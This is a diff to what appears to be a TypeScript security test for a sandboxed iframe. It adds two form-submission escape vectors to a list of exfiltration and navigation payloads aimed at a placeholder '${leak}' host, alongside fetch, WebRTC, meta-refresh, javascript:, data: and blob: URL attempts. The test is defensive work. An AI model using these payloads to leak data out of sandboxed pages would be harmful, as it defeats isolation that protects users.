@@ -105,7 +105,7 @@ function ways(leak: string, plain: string, udp: number): string {
         connection.createDataChannel('a');
         await connection.setLocalDescription(await connection.createOffer());
       };
-      document.getElementById('f').addEventListener('submit', () => parent.postMessage('submitted', '*'));
+      document.getElementById('f').addEventListener('submit', (event) => event.preventDefault() || parent.postMessage('submitted', '*'));
       const tries = [
         () => fetch('${leak}/fetch', { mode: 'no-cors' }),
         () => fetch('/?stolen'),
@@ -157,6 +157,8 @@ test('html that leads its own frame away is gone, and nobody was asked', async (
     `location.href = 'javascript:location.href="${leak}/javascript"'`,
     `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${leak}/refresh">'`,
     `document.body.innerHTML = '<a href="${leak}/link">a</a>'; document.querySelector('a').click()`,
+    `document.body.innerHTML = '<form method="post" action="${leak}/post"><input name="a"></form>'; document.forms[0].requestSubmit()`,
+    `document.body.innerHTML = '<form action="/?stolen"><input name="a"></form>'; document.forms[0].requestSubmit()`,
     `document.body.innerHTML = '<form action="${leak}/form"><input name="a"></form>'; document.forms[0].submit()`,
     `location.href = URL.createObjectURL(new Blob(['<script>location.href = "${leak}/blob"</' + 'script>'], { type: 'text/html' }))`,
     `location.href = 'data:text/html,<script>location.href="${leak}/data"</' + 'script>'`,
